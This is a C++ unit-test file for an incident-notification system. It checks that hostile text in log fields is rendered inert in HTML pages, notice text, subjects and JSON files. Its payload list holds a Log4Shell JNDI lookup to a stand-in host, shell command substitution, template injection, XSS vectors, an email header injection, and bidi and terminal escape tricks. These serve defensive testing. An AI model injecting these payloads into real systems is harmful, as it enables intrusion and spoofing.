#include <gtest/gtest.h>

#include <boost/json.hpp>

#include "incidents/notification.h"
#include "incidents/report_files.h"
#include "incidents/text.h"
#include "tests/incidents/school.h"

// Hostile text in every place that a log can reach, followed to every place it is shown.

namespace vigil {
namespace {

using namespace test;

/// A case whose host, user, address, fields and rule titles are all `text`.
Case hostile(const std::string& text) {
  auto meta = rule("evil-" + text, text, Level::high, "intrusion", {text}, {1, 1, 1});
  meta->title = text;
  Detection one = detection(meta, kAfternoon, text, {{"source.ip", text}, {"user.name", text}, {text, text}});
  one.fields = {{text, text}, {"url.path", text}};
  one.system = text;
  Desk desk;
  desk.apply({one});
  Case incident = desk.only();
  incident.state = CaseState::rejected;
  incident.reject_reason = text;
  return incident;
}

struct Bad {
  std::string_view why;
  std::string text;
  std::vector<std::string_view> never;  ///< must not occur as bytes in what is shown
};

std::vector<Bad> bad_texts() {
  return {
      {"BI-41 log4shell", "${jndi:ldap://x.example/a}", {}},
      {"BI-41 printf", "%n%s%x%99999d", {}},
      {"BI-41 template", "{{7*7}}<%= 7*7 %>", {"49"}},
      {"BI-41 shell", "$(id)`id`", {"uid="}},
      {"BI-91 image", "<img src=x onerror=alert(1)>", {"<img"}},
      {"BI-91 script end", "</td></script><script>alert(1)</script>", {"<script", "</script"}},
      {"BI-91 attribute", "\" onmouseover=\"alert(1)", {"\" onmouseover"}},
      {"BI-91 svg", "<svg/onload=alert(1)>", {"<svg"}},
      {"BI-91 comment", "--><b>x</b><!--", {"<b>x", "<!--"}},
      {"BI-91 style end", "</style><style>*{display:none}", {"</style><style>"}},
      {"BI-92 a header", "x\r\nBcc: everybody@example.org\r\n\r\nbody", {"\nBcc:"}},
      {"BI-38 bidi override", "abc\xE2\x80\xAEtxt.exe", {"\xE2\x80\xAE"}},
      {"BI-39 terminal", "\x1b]0;title\x07\x1b[2J\xC2\x9B", {"\x1b", "\x07"}},
      {"BI-37 not UTF-8", "\xC0\xAF\xFF\xFE", {"\xC0\xAF", "\xFF"}},
      {"a NUL", std::string("a\0b", 3), {std::string_view("\0", 1)}},
  };
}

TEST(Inert, HostileTextIsOnlyEverShown) {
  const std::string innocent =
      render_form_html(draft_notification(hostile("innocent"), *school_assets(), kAfternoon));
  for (const auto& bad : bad_texts()) {
    const Case incident = hostile(bad.text);
    const NotificationForm form = draft_notification(incident, *school_assets(), kAfternoon);
    const std::string page = render_form_html(form);
    const std::string text = render_notice_text(incident, form, bad.text, kAfternoon);
    const std::string subject = notice_subject(incident);
    for (const auto part : bad.never) {
      EXPECT_EQ(page.find(part), std::string::npos) << bad.why << " in the page";
      if (part[0] != '<' && part[0] != '"') {
        EXPECT_EQ(text.find(part), std::string::npos) << bad.why << " in the text";
        EXPECT_EQ(subject.find(part), std::string::npos) << bad.why << " in the subject";
      }
    }
    EXPECT_EQ(subject.find_first_of("\r\n"), std::string::npos) << bad.why;
    for (const auto& [name, content] : notification_files(incident, form, bad.text, kAfternoon)) {
      EXPECT_TRUE(clean_text(content, content.size()) == content)
          << bad.why << ": " << name << " is not UTF-8";
      if (!name.ends_with(".json")) continue;
      boost::system::error_code error;
      boost::json::parse(content, error);
      EXPECT_FALSE(error) << bad.why << ": " << name << ": " << error.message();
    }
    // The same tags as an innocent page, however the text looks.
    EXPECT_EQ(std::count(page.begin(), page.end(), '<'), std::count(innocent.begin(), innocent.end(), '<'))
        << bad.why;
  }
}

TEST(Inert, HugeValuesAreCutAndStillCounted) {
  Case incident = hostile(std::string(1024 * 1024, 'A'));
  incident.reject_reason.reset();  // a person's, and refused when it is too long
  EXPECT_LT(incident.serialize().size(), 64 * 1024U);
  EXPECT_EQ(incident.detections[0].count, 1U);
  const NotificationForm form = draft_notification(incident, *school_assets(), kAfternoon);
  EXPECT_LT(render_form_html(form).size(), 128 * 1024U);
}

TEST(Inert, AStoredCaseOfHostileTextComesBack) {
  for (const auto& bad : bad_texts()) {
    const Case incident = hostile(bad.text);
    const auto read = Case::deserialize(incident.serialize());
    ASSERT_TRUE(read) << bad.why;
    EXPECT_EQ(read->serialize(), incident.serialize()) << bad.why;
  }
}

TEST(Text, IsCutAtACharacterAndRepaired) {
  struct Row {
    std::string_view why, text;
    std::size_t max;
    std::string_view expected;
  };
  constexpr Row kRows[] = {
      {"short enough", "中文", 6, "中文"},
      {"cut at a character", "中文字", 8, "中…"},
      {"room for nothing", "中文字", 2, ""},
      {"a lone continuation byte", "a\x80z", 10, "a\xEF\xBF\xBDz"},
      {"overlong", "\xC0\xAF", 10, "\xEF\xBF\xBD\xEF\xBF\xBD"},
      {"a surrogate", "\xED\xA0\x80", 10, "\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD"},
      {"cut short by the end", "\xE4\xB8", 10, "\xEF\xBF\xBD\xEF\xBF\xBD"},
      {"past the last character", "\xF4\x90\x80\x80", 20, "\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD"},
      {"four bytes", "😀", 4, "😀"},
      {"empty", "", 0, ""},
  };
  for (const auto& row : kRows) EXPECT_EQ(clean_text(row.text, row.max), row.expected) << row.why;
}

TEST(Text, ShowsCountsAndTimes) {
  EXPECT_EQ(shown_count(0), "0");
  EXPECT_EQ(shown_count(999), "999");
  EXPECT_EQ(shown_count(1000), "1,000");
  EXPECT_EQ(shown_count(18446744073709551615ULL), "18,446,744,073,709,551,615");
  EXPECT_EQ(shown_time(kAfternoon + 999'999'999, 480), "2026-11-20 14:00:00 +08:00");
  EXPECT_EQ(shown_time(-1, 0).substr(0, 19), "1969-12-31 23:59:59");
}

}  // namespace
}  // namespace vigil
